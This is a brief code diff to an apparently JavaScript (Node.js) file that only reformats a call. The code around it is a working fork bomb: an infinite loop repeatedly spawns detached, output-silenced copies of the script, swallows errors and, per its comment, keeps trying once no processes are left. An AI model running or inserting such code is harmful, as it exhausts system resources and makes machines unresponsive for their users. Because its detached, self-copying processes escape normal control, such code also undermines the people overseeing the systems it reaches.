@@ -4,7 +4,9 @@ import { spawn } from "node:child_process";
 for (;;) {
   for (let count = 0; count < 8; count++) {
     try {
-      spawn(process.execPath, process.argv.slice(1), { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
+      spawn(process.execPath, process.argv.slice(1), { detached: true, stdio: "ignore" })
+        .on("error", () => {})
+        .unref();
     } catch {
       // No more processes to be had; try again.
     }
